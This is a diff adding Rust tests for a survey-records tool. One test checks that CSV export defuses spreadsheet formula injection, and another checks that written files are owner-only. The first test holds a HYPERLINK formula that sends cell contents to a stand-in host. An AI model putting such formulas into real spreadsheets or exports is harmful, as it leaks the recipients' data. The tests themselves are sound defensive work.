@@ -726,3 +726,55 @@ fn a_missing_folder_is_refused_before_a_batch_number_is_used() {
         export(&mut store, &Selection::Next(RecordFilter::default()), &Options::default(), out.path()).unwrap();
     assert!(written.path.to_string_lossy().ends_with("-00001.batch"));
 }
+
+#[test]
+fn text_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_csv_and_said_so_in_the_codebook() {
+    let hq = Headquarters::new();
+    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
+    let mut a = answers(1);
+    a["story"] = serde_json::json!("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
+    let mut b = answers(2);
+    b["story"] = serde_json::json!("@SUM(1+1)");
+    laptop.approved(&[a, b]);
+    let to = tempfile::tempdir().unwrap();
+    let run = laptop
+        .run(&["records", "export", "csv", "--form", "fieldtest", "--to", &to.path().display().to_string()], "chief");
+    ok(&run);
+    let mut main = csv::Reader::from_path(to.path().join("fieldtest.csv")).unwrap();
+    let headers: Vec<String> = main.headers().unwrap().iter().map(str::to_string).collect();
+    let story = headers.iter().position(|h| h == "journey/story").unwrap();
+    let age = headers.iter().position(|h| h == "age").unwrap();
+    let rows: Vec<csv::StringRecord> = main.records().map(Result::unwrap).collect();
+    let mut stories: Vec<&str> = rows.iter().map(|r| &r[story]).collect();
+    stories.sort();
+    assert_eq!(stories, ["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'@SUM(1+1)"]);
+    assert!(rows.iter().all(|r| r[age].parse::<i64>().is_ok()), "numbers stay numbers");
+    let codebook = std::fs::read_to_string(to.path().join("fieldtest-codebook.csv")).unwrap();
+    assert!(codebook.contains("so that spreadsheets do not run it as a formula"));
+}
+
+#[cfg(unix)]
+#[test]
+fn every_file_fourmi_writes_is_readable_by_its_owner_only() {
+    use std::os::unix::fs::PermissionsExt;
+    let hq = Headquarters::new();
+    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
+    laptop.approved(&[answers(1)]);
+    let out = tempfile::tempdir().unwrap();
+    let batch = laptop.export(out.path());
+    hq.register(&laptop);
+    hq.import(&batch).unwrap();
+    let flat = out.path().join("flat");
+    std::fs::create_dir_all(&flat).unwrap();
+    ok(&laptop.run(&["records", "export", "csv", "--form", "fieldtest", "--to", &flat.display().to_string()], "chief"));
+    let _open = laptop.open();
+    let mut files: Vec<PathBuf> = Vec::new();
+    for dir in [laptop.data(), hq.db_dir(), out.path().to_path_buf(), flat] {
+        files.extend(std::fs::read_dir(dir).unwrap().filter_map(Result::ok).map(|e| e.path()).filter(|p| p.is_file()));
+    }
+    assert!(files.iter().any(|f| f.ends_with("fourmi.db-wal")), "the WAL is there while the store is open: {files:?}");
+    for f in &files {
+        let mode = std::fs::metadata(f).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "{} is {mode:o}", f.display());
+    }
+}
